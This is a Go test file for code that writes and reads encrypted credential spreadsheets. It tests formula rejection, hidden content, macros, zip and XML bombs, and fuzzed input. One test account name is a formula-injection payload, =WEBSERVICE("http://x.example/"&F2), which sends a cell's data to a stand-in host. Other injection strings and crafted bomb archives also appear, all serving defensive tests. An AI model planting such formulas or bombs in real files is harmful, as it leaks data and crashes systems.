package credential

import (
	"archive/zip"
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha512"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"ukpbjd/internal/secret"
	"ukpbjd/internal/sop"
)

func sec(s string) secret.Secret { return secret.New([]byte(s)) }

var phrase = sec("CONTOH-SANDI-BERKAS")

const nips = 3

func nip(i int) string { return fmt.Sprintf("19860926201505100%d", i) }

// accounts gives rows as they are issued; passwords are plainly invented.
func accounts() (rows []SheetRow, issued map[string]Issued) {
	issued = map[string]Issued{}
	for i, name := range []string{"I Wayan Contoh, S.T.", `=WEBSERVICE("http://x.example/"&F2)`, "Ni Luh Contoh"} {
		r := SheetRow{Nama: name, NIP: nip(i), Email: fmt.Sprintf("m%d@gov.example", i), UserID: fmt.Sprintf("contoh.%d", i), Password: sec(fmt.Sprintf("Contoh#aman%d", i+2))}
		rows = append(rows, r)
		issued[r.NIP] = Issued{r.UserID, r.Password}
	}
	return rows, issued
}

func plainOrSealed(t testing.TB, passphrase secret.Secret) []byte {
	t.Helper()
	rows, _ := accounts()
	b, err := writeSheet("PKJ-2026-0001", "7KQF3M", rows, passphrase)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// edit opens the sheet as a spreadsheet program does, changes it and saves it with the same passphrase.
func edit(t testing.TB, change func(f *excelize.File)) []byte {
	t.Helper()
	return saved(t, change, phrase.Reveal())
}

func saved(t testing.TB, change func(f *excelize.File), passphrase string) []byte {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(plainOrSealed(t, secret.Secret{})))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	change(f)
	b, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	if passphrase == "" {
		return b.Bytes()
	}
	enc, err := excelize.Encrypt(b.Bytes(), &excelize.Options{Password: passphrase})
	if err != nil {
		t.Fatal(err)
	}
	return enc
}

func set(t testing.TB, f *excelize.File, cell string, v any) {
	t.Helper()
	if err := f.SetCellValue(sheetTab, cell, v); err != nil {
		t.Fatal(err)
	}
}

func TestSheetRoundTrip(t *testing.T) {
	rows, issued := accounts()
	b := plainOrSealed(t, phrase)
	if !isCompound(b) || bytes.Contains(b, []byte("Contoh")) || !IsSheet(b) || IsSheet([]byte("PK\x03\x04")) || IsSheet(nil) {
		t.Error("the sheet is not encrypted, or not recognised")
	}
	got, faults := ReadSheet(b, phrase, true, issued)
	if len(faults) > 0 || len(got) != nips {
		t.Fatalf("%d rows, %v", len(got), faults)
	}
	for i, r := range got {
		if r.Row != i+1 || r.Nama != rows[i].Nama || r.NIP != rows[i].NIP || r.Email != rows[i].Email || r.UserID != rows[i].UserID ||
			r.Password != sop.PasswordSame || !r.Changed.Absent() {
			t.Errorf("row %d: %+v", i+1, r.SheetRow)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(b), excelize.Options{Password: phrase.Reveal()})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if p, err := f.GetCellValue(sheetTab, "F8"); err != nil || p != rows[0].Password.Reveal() {
		t.Errorf("a spreadsheet program does not find the password: %v", err)
	}
}

// Every cell is a string: no formula, no number, whatever a name says.
func TestSheetHoldsStringsOnly(t *testing.T) {
	rows, _ := accounts()
	rows = append(rows, SheetRow{Nama: "+1+1\r\nSETUJU\x00\u202e", NIP: "@SUM(A1)", Email: "-2", UserID: "\t=1", Kept: true, Password: sec("never shown")})
	b, err := writeSheet("PKJ-2026-0001", "", rows, secret.Secret{})
	if err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range z.File {
		r, err := p.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(p.Name, "xl/worksheets/") {
			if bytes.Contains(raw, []byte("<f>")) || bytes.Contains(raw, []byte("<f ")) || bytes.Count(raw, []byte(`t="s"`)) < 6*4 {
				t.Errorf("%s: a cell is no string", p.Name)
			}
		}
		if bytes.Contains(raw, []byte("never shown")) {
			t.Errorf("%s shows the password of a kept account", p.Name)
		}
	}
	w, err := readWorkbook(b)
	if err != nil {
		t.Fatal(err)
	}
	line := w.sheets[0].rows[headerRow+4].cells
	if line[1] != "+1+1  SETUJU" || line[2] != "@SUM(A1)" || line[4] != "=1" || line[5] != kept {
		t.Errorf("%v", line)
	}
}

func TestSheetEdited(t *testing.T) {
	_, issued := accounts()
	b := edit(t, func(f *excelize.File) {
		set(t, f, "E8", "wayan.contoh")
		set(t, f, "F8", " Baru#contoh9 ")
		set(t, f, "F9", "tetap")
		set(t, f, "C10", "19860926 201505 1 002")
		set(t, f, "D10", "M2@GOV.example")
		set(t, f, "F10", "lemah")
	})
	got, faults := ReadSheet(b, phrase, true, issued)
	if len(faults) > 0 || len(got) != nips {
		t.Fatalf("%d rows, %v", len(got), faults)
	}
	if r := got[0]; r.UserID != "wayan.contoh" || r.Password != sop.PasswordChanged || r.Changed.Reveal() != "Baru#contoh9" {
		t.Errorf("row 1: %+v", r.SheetRow)
	}
	if r := got[1]; r.Password != sop.PasswordKept || !r.Changed.Absent() {
		t.Errorf("row 2: %+v", r.SheetRow)
	}
	if r := got[2]; r.Password != sop.PasswordWeak || !r.Changed.Absent() || r.NIP != nip(2) || r.Email != "m2@gov.example" {
		t.Errorf("row 3: %+v", r.SheetRow)
	}
	b = edit(t, func(f *excelize.File) {
		set(t, f, "F8", "Contoh#aman3")
		set(t, f, "F9", "Contoh#aman2")
		set(t, f, "F10", "")
	})
	got, faults = ReadSheet(b, phrase, true, issued)
	if len(faults) > 0 || got[0].Password != sop.PasswordForeign || got[1].Password != sop.PasswordForeign || got[2].Password != sop.PasswordEmpty {
		t.Errorf("exchanged: %v, %v %v %v", faults, got[0].Password, got[1].Password, got[2].Password)
	}
}

// Each fault by itself, beside the sheet that has none.
func TestSheetFaults(t *testing.T) {
	_, issued := accounts()
	do := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range []struct {
		change func(f *excelize.File)
		want   []sop.SheetFault
	}{
		{func(f *excelize.File) {}, nil},
		{func(f *excelize.File) { set(t, f, "A3", "catatan di atas tabel") }, nil},
		{func(f *excelize.File) { f.NewSheet("Kosong") }, nil},
		{func(f *excelize.File) { do(f.SetCellFormula(sheetTab, "F9", "E9")) }, []sop.SheetFault{{Row: 2, Code: FaultFormula}}},
		{func(f *excelize.File) { do(f.SetCellFormula(sheetTab, "A2", "1+1")) }, []sop.SheetFault{{Row: 0, Code: FaultFormula}}},
		{func(f *excelize.File) { do(f.SetRowVisible(sheetTab, 10, false)) }, []sop.SheetFault{{Row: 3, Code: FaultHiddenRow}}},
		{func(f *excelize.File) { do(f.SetRowHeight(sheetTab, 8, 0)) }, []sop.SheetFault{{Row: 1, Code: FaultHiddenRow}}},
		{func(f *excelize.File) { do(f.SetColVisible(sheetTab, "F", false)) }, []sop.SheetFault{{Row: 0, Code: FaultHiddenColumn}}},
		{func(f *excelize.File) { do(f.MergeCell(sheetTab, "A8", "A9")) }, []sop.SheetFault{{Row: 0, Code: FaultMergedCells}}},
		{func(f *excelize.File) { f.NewSheet("x"); do(f.SetSheetVisible("x", false)) }, []sop.SheetFault{{Row: 0, Code: FaultHiddenSheet}}},
		{func(f *excelize.File) { f.NewSheet("x"); do(f.SetCellStr("x", "A1", "y")) }, []sop.SheetFault{{Row: 0, Code: FaultExtraSheet}}},
		{func(f *excelize.File) { set(t, f, "F7", "Sandi") }, []sop.SheetFault{{Row: 0, Code: FaultHeadersMissing}}},
		{func(f *excelize.File) { set(t, f, "H9", "x") }, []sop.SheetFault{{Row: 2, Code: FaultExtraCells}}},
		{func(f *excelize.File) { set(t, f, "C9", nip(0)) }, []sop.SheetFault{{Row: 2, Code: FaultDuplicateRow}, {Row: 2, Code: FaultForeignUserID}}},
		{func(f *excelize.File) { set(t, f, "E9", "CONTOH.0") }, []sop.SheetFault{{Row: 2, Code: FaultDuplicateUserID}, {Row: 2, Code: FaultForeignUserID}}},
		{func(f *excelize.File) { set(t, f, "E9", "") }, []sop.SheetFault{{Row: 2, Code: FaultBadUserID}}},
		{func(f *excelize.File) { set(t, f, "E9", "dua kata") }, []sop.SheetFault{{Row: 2, Code: FaultBadUserID}}},
		{func(f *excelize.File) { set(t, f, "F8", "Baru#contoh9"); set(t, f, "F10", "Baru#contoh9") }, []sop.SheetFault{{Row: 3, Code: FaultDuplicatePassword}}},
		{func(f *excelize.File) {
			for i := range maxRows {
				set(t, f, fmt.Sprint("A", 11+i), "x")
				set(t, f, fmt.Sprint("C", 11+i), fmt.Sprint(i))
				set(t, f, fmt.Sprint("E", 11+i), fmt.Sprint("u", i))
			}
		}, []sop.SheetFault{{Row: 0, Code: FaultTooManyRows}}},
	} {
		_, faults := ReadSheet(edit(t, c.change), phrase, true, issued)
		if !slices.Equal(faults, c.want) {
			t.Errorf("faults %v, want %v", faults, c.want)
		}
	}
}

func TestSheetFaultsOfTheFile(t *testing.T) {
	_, issued := accounts()
	good := plainOrSealed(t, phrase)
	for name, c := range map[string]struct {
		b    []byte
		want string
		rows int
	}{
		"plain":            {plainOrSealed(t, secret.Secret{}), FaultNotEncrypted, nips},
		"other passphrase": {saved(t, func(*excelize.File) {}, "lain"), FaultWrongPassphrase, 0},
		"too large":        {make([]byte, maxSheet+1), FaultTooLarge, 0},
		"no workbook":      {append([]byte("PK\x03\x04"), make([]byte, 100)...), FaultUnreadable, 0},
		"cut":              {good[:len(good)/2], FaultUnreadable, 0},
		"only the magic":   {compoundMagic, FaultUnreadable, 0},
	} {
		rows, faults := ReadSheet(c.b, phrase, true, issued)
		if name == "no workbook" {
			faults = slices.DeleteFunc(faults, func(f sop.SheetFault) bool { return f.Code == FaultNotEncrypted })
		}
		if !slices.Equal(faults, []sop.SheetFault{{Row: 0, Code: c.want}}) || len(rows) != c.rows {
			t.Errorf("%s: %v, %d rows", name, faults, len(rows))
		}
	}
	if _, faults := ReadSheet(plainOrSealed(t, secret.Secret{}), secret.Secret{}, false, issued); len(faults) > 0 {
		t.Errorf("plain, where that is configured: %v", faults)
	}
}

// agileFile encrypts as Excel does ([MS-OFFCRYPTO] §2.3.4.11 ff.), with the container borrowed from a standard file.
func agileFile(t testing.TB, plain []byte, passphrase string, spins int) []byte {
	t.Helper()
	random := func(n int) []byte { b := make([]byte, n); rand.Read(b); return b }
	encrypt := func(key, iv, in []byte) []byte {
		in = append(bytes.Clone(in), make([]byte, (16-len(in)%16)%16)...)
		block, err := aes.NewCipher(key)
		if err != nil {
			t.Fatal(err)
		}
		cipher.NewCBCEncrypter(block, iv).CryptBlocks(in, in)
		return in
	}
	salt, dataSalt, key, input, hkey := random(16), random(16), random(32), random(16), random(64)
	h := stretch(sha512.New, salt, sec(passphrase), uint32(spins))
	lock := func(block, in []byte) string {
		return base64.StdEncoding.EncodeToString(encrypt(sum(sha512.New, h, block)[:32], salt, in))
	}
	iv := func(block []byte) []byte { return sum(sha512.New, dataSalt, block)[:16] }
	pack := binary.LittleEndian.AppendUint64(nil, uint64(len(plain)))
	for i := 0; i*4096 < len(plain); i++ {
		pack = append(pack, encrypt(key, iv(binary.LittleEndian.AppendUint32(nil, uint32(i))), plain[i*4096:min(len(plain), (i+1)*4096)])...)
	}
	m := hmac.New(sha512.New, hkey)
	m.Write(pack)
	b64 := base64.StdEncoding.EncodeToString
	data := func(s []byte) string {
		return fmt.Sprintf(`saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="%s"`, b64(s))
	}
	verifier := sum(sha512.New, input)
	info := append([]byte{4, 0, 4, 0, 0x40, 0, 0, 0}, fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><keyData %s/><dataIntegrity encryptedHmacKey="%s" encryptedHmacValue="%s"/><keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><p:encryptedKey spinCount="%d" %s encryptedVerifierHashInput="%s" encryptedVerifierHashValue="%s" encryptedKeyValue="%s"/></keyEncryptor></keyEncryptors></encryption>`,
		data(dataSalt), b64(encrypt(key, iv(forHMAC), hkey)), b64(encrypt(key, iv(forValue), m.Sum(nil))), spins, data(salt),
		lock(forInput, input), lock(forHash, verifier), lock(forKey, key))...)
	return writeCompound(map[string][]byte{"EncryptionInfo": info, "EncryptedPackage": pack})
}

// writeCompound makes a compound file whose streams are padded to whole sectors of at least 4,096 bytes.
func writeCompound(streams map[string][]byte) []byte {
	var sectors [][]byte
	var fat []uint32
	add := func(b []byte) uint32 {
		first := uint32(len(sectors))
		for len(b) > 0 {
			s := make([]byte, 512)
			n := copy(s, b)
			b = b[n:]
			sectors, fat = append(sectors, s), append(fat, uint32(len(sectors)+1))
		}
		fat[len(fat)-1] = 0xfffffffe
		return first
	}
	entry := func(name string, kind byte, first uint32, size int) []byte {
		e := make([]byte, 128)
		for i, c := range name {
			e[2*i] = byte(c)
		}
		binary.LittleEndian.PutUint16(e[64:], uint16(2*len(name)+2))
		e[66], e[67] = kind, 1
		for i := 68; i < 80; i++ {
			e[i] = 0xff
		}
		binary.LittleEndian.PutUint32(e[116:], first)
		binary.LittleEndian.PutUint32(e[120:], uint32(size))
		return e
	}
	dir := entry("Root Entry", 5, 0xfffffffe, 0)
	binary.LittleEndian.PutUint32(dir[76:], 1)
	for i, name := range []string{"EncryptionInfo", "EncryptedPackage"} {
		b := streams[name]
		size := max(len(b), 4096)
		e := entry(name, 2, add(append(bytes.Clone(b), make([]byte, size-len(b))...)), size)
		if i == 0 {
			binary.LittleEndian.PutUint32(e[72:], 2) // its sibling
		}
		dir = append(dir, e...)
	}
	first := add(dir)
	count := 1
	for count*128 < len(fat)+count {
		count++
	}
	b := make([]byte, 512)
	copy(b, compoundMagic)
	for at, v := range map[int]uint16{24: 0x3e, 26: 3, 28: 0xfffe, 30: 9, 32: 6} {
		binary.LittleEndian.PutUint16(b[at:], v)
	}
	for at, v := range map[int]uint32{44: uint32(count), 48: first, 56: 4096, 60: 0xfffffffe, 68: 0xfffffffe} {
		binary.LittleEndian.PutUint32(b[at:], v)
	}
	for i := range headerDIFAT {
		v := uint32(0xffffffff)
		if i < count {
			v = uint32(len(sectors) + i)
		}
		binary.LittleEndian.PutUint32(b[76+4*i:], v)
	}
	for range count {
		fat = append(fat, 0xfffffffd)
	}
	for len(fat) < count*128 {
		fat = append(fat, 0xffffffff)
	}
	for _, s := range sectors {
		b = append(b, s...)
	}
	for _, f := range fat {
		b = binary.LittleEndian.AppendUint32(b, f)
	}
	return b
}

// Excel and LibreOffice save with agile encryption. The test's own writer is checked by another reader.
func TestSheetAgile(t *testing.T) {
	_, issued := accounts()
	plain := plainOrSealed(t, secret.Secret{})
	b := agileFile(t, plain, phrase.Reveal(), 1000)
	if f, err := excelize.OpenReader(bytes.NewReader(b), excelize.Options{Password: phrase.Reveal()}); err != nil {
		t.Fatalf("the test's own file is wrong: %v", err)
	} else {
		f.Close()
	}
	if rows, faults := ReadSheet(b, phrase, true, issued); len(faults) > 0 || len(rows) != nips || rows[0].Password != sop.PasswordSame {
		t.Errorf("%v", faults)
	}
	if _, faults := ReadSheet(agileFile(t, plain, "lain", 1000), phrase, true, issued); len(faults) != 1 || faults[0].Code != FaultWrongPassphrase {
		t.Errorf("another passphrase: %v", faults)
	}
	bad := bytes.Clone(b)
	bad[len(bad)/2] ^= 1
	if _, faults := ReadSheet(bad, phrase, true, issued); len(faults) != 1 || faults[0].Code != FaultUnreadable {
		t.Errorf("one bit of the content changed: %v", faults)
	}
	start := time.Now()
	if _, faults := ReadSheet(bytes.Replace(b, []byte(`spinCount="1000"`), []byte(`spinCount="99999999"`), 1)[:len(b)], phrase, true, issued); len(faults) != 1 {
		t.Errorf("a hundred million spins: %v", faults)
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("a hundred million spins took %v", d)
	}
}

// rezip rewrites single parts of the plain workbook.
func rezip(t testing.TB, change func(name string, b []byte) []byte, extra map[string][]byte) []byte {
	t.Helper()
	b := plainOrSealed(t, secret.Secret{})
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	put := func(name string, b []byte) {
		f, err := w.Create(name)
		if err == nil {
			_, err = f.Write(b)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range z.File {
		r, err := p.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		put(p.Name, change(p.Name, raw))
	}
	for name, b := range extra {
		put(name, b)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestSheetBombs(t *testing.T) {
	_, issued := accounts()
	same := func(_ string, b []byte) []byte { return b }
	sheet := func(body string) func(string, []byte) []byte {
		return func(name string, b []byte) []byte {
			if name == "xl/worksheets/sheet1.xml" {
				return []byte(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + body + `</sheetData></worksheet>`)
			}
			return b
		}
	}
	for name, b := range map[string][]byte{
		"unpacks to 100 MB":    rezip(t, same, map[string][]byte{"xl/media/x.bin": make([]byte, 100<<20)}),
		"two parts, one name":  rezip(t, same, map[string][]byte{"XL/workbook.xml": nil}),
		"a million rows":       rezip(t, sheet(strings.Repeat(`<row><c t="inlineStr"><is><t>x</t></is></c></row>`, 100_000)), nil),
		"rows backwards":       rezip(t, sheet(`<row r="9"><c r="A9"/></row><row r="8"><c r="A8"/></row>`), nil),
		"one cell twice":       rezip(t, sheet(`<row r="9"><c r="A9"/><c r="A9"/></row>`), nil),
		"a cell of other rows": rezip(t, sheet(`<row r="9"><c r="A7"/></row>`), nil),
		"no such string":       rezip(t, sheet(`<row r="9"><c r="A9" t="s"><v>99999999</v></c></row>`), nil),
		"entities":             rezip(t, sheet(`<row r="9"><c r="A9" t="str"><v>&x;</v></c></row>`), nil),
		"row 99999999999":      rezip(t, sheet(`<row r="99999999999"/>`), nil),
		"nested deeply":        rezip(t, sheet(`<row r="9"><c r="A9" t="inlineStr"><is>`+strings.Repeat("<r>", 50_000)), nil),
	} {
		start := time.Now()
		_, faults := ReadSheet(b, secret.Secret{}, false, issued)
		if len(faults) != 1 || faults[0].Code != FaultUnreadable {
			t.Errorf("%s: %v", name, faults)
		}
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s: %v", name, d)
		}
	}
	_, faults := ReadSheet(rezip(t, same, map[string][]byte{"xl/vbaProject.bin": []byte("x")}), secret.Secret{}, false, issued)
	if len(faults) != 1 || faults[0].Code != FaultMacros {
		t.Errorf("macros: %v", faults)
	}
	if rows, faults := ReadSheet(rezip(t, same, nil), secret.Secret{}, false, issued); len(faults) > 0 || len(rows) != nips {
		t.Errorf("the same workbook, packed anew: %v", faults)
	}
}

// Whatever names, addresses and passwords hold, the sheet reads back to what was written.
func TestSheetAnyContent(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		var rows []SheetRow
		issued := map[string]Issued{}
		for i := range rapid.IntRange(1, 4).Draw(t, "rows") {
			p, err := Generate(rand.Reader)
			if err != nil {
				t.Fatal(err)
			}
			r := SheetRow{Nama: rapid.String().Draw(t, "nama"), NIP: nip(i), Email: "a@gov.example", UserID: fmt.Sprint("u", i), Password: p}
			rows, issued[r.NIP] = append(rows, r), Issued{r.UserID, p}
		}
		b, err := writeSheet("PKJ-2026-0001", "", rows, secret.Secret{})
		if err != nil {
			t.Fatal(err)
		}
		got, faults := ReadSheet(b, secret.Secret{}, false, issued)
		if len(faults) > 0 || len(got) != len(rows) {
			t.Fatalf("%d rows, %v", len(got), faults)
		}
		for i, r := range got {
			if r.Password != sop.PasswordSame || r.NIP != rows[i].NIP || r.Nama != oneLine(rows[i].Nama) {
				t.Fatalf("%q came back as %q", rows[i].Nama, r.Nama)
			}
		}
	})
}

func TestSheetInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice is not installed; no part of ukpbjd needs it")
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "x.xlsx"), plainOrSealed(t, secret.Secret{}), 0o600); err != nil {
		t.Fatal(err)
	}
	c := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+dir+"/profile", "--convert-to", "csv", "--outdir", dir, filepath.Join(dir, "x.xlsx"))
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "x.csv"))
	if err != nil || !bytes.Contains(b, []byte(nip(1))) {
		t.Errorf("%v", err)
	}
}

func FuzzReadSheet(f *testing.F) {
	_, issued := accounts()
	f.Add(plainOrSealed(f, secret.Secret{}))
	f.Add(agileFile(f, plainOrSealed(f, secret.Secret{}), phrase.Reveal(), 10))
	f.Add([]byte("PK\x05\x06"))
	f.Fuzz(func(t *testing.T, b []byte) {
		rows, faults := ReadSheet(b, phrase, true, issued)
		if len(rows) > maxRows || len(faults) == 0 && len(rows) == 0 && !isCompound(b) {
			t.Errorf("%d rows, %v", len(rows), faults)
		}
		IsSheet(b)
	})
}

// FuzzWorksheet skips the ZIP: what the XML of a worksheet may hold.
func FuzzWorksheet(f *testing.F) {
	f.Add([]byte(`<worksheet><cols><col min="1" max="9" hidden="1"/></cols><sheetData><row r="1" ht="0"><c r="A1" t="inlineStr"><is><t>No</t><rPh><t>x</t></rPh></is><f>1</f></c></row></sheetData><mergeCells><mergeCell ref="A1:B2"/></mergeCells></worksheet>`))
	f.Fuzz(func(t *testing.T, b []byte) {
		var z bytes.Buffer
		w := zip.NewWriter(&z)
		for name, c := range map[string][]byte{
			"xl/workbook.xml":            []byte(`<workbook xmlns:r="r"><sheets><sheet name="a" r:id="1"/></sheets></workbook>`),
			"xl/_rels/workbook.xml.rels": []byte(`<Relationships><Relationship Id="1" Target="s.xml"/></Relationships>`),
			"xl/sharedStrings.xml":       b, "xl/s.xml": b,
		} {
			p, err := w.Create(name)
			if err == nil {
				_, err = p.Write(c)
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		ReadSheet(z.Bytes(), secret.Secret{}, false, nil)
	})
}

func BenchmarkSheet(b *testing.B) {
	_, issued := accounts()
	for b.Loop() {
		if _, faults := ReadSheet(plainOrSealed(b, phrase), phrase, true, issued); len(faults) > 0 {
			b.Fatal(faults)
		}
	}
}
